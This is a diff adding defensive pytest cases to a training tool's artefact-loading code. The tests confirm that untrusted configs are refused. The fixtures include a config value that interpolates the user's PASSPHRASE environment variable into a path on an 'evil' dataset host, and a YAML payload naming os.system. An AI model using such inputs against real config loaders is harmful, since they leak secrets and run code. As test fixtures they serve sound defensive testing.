@@ -11,8 +11,10 @@ import pytest
 import yaml
 
 from dtrain import export
+from dtrain.config.errors import ConfigError
+from dtrain.evaluate import recompose_artefact
 from tests.hub_server import point_at, serving_hub
-from tests.refusals import assert_refused
+from tests.refusals import assert_refused, refused
 from tests.test_evaluate import by_hand, ending, evaluated, numbers
 
 pytest.importorskip("huggingface_hub", reason="hf needs huggingface_hub: pip install 'dtrain[hf]'")
@@ -84,6 +86,23 @@ def test_options_that_an_artefact_does_not_have_are_refused(
     assert code != 0
     assert_refused(text, *names)
     assert "Traceback" not in text
+
+
+def test_the_config_of_somebody_else_never_reads_the_environment(
+    artefact: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PASSPHRASE", "of the user")
+    changed = copied(artefact, tmp_path / "changed", data={"eval": "hf://datasets/evil/${oc.env:PASSPHRASE}/x.tar"})
+    with refused(ConfigError, "data.eval", "${oc.env:PASSPHRASE}", "--trust"):
+        recompose_artefact(changed, [])
+
+
+@pytest.mark.parametrize("content", [b"a: [", b"- 1", b"", b"\xff", b"data: !!python/name:os.system"])
+def test_a_config_that_is_damaged_is_one_message(artefact: Path, tmp_path: Path, content: bytes) -> None:
+    changed = copied(artefact, tmp_path / "changed")
+    (changed / "config.yaml").write_bytes(content)
+    with refused(ConfigError, "artefact", changed / "config.yaml", "Export the run again"):
+        recompose_artefact(changed, [])
 
 
 def test_the_config_of_somebody_else_may_only_name_known_code(
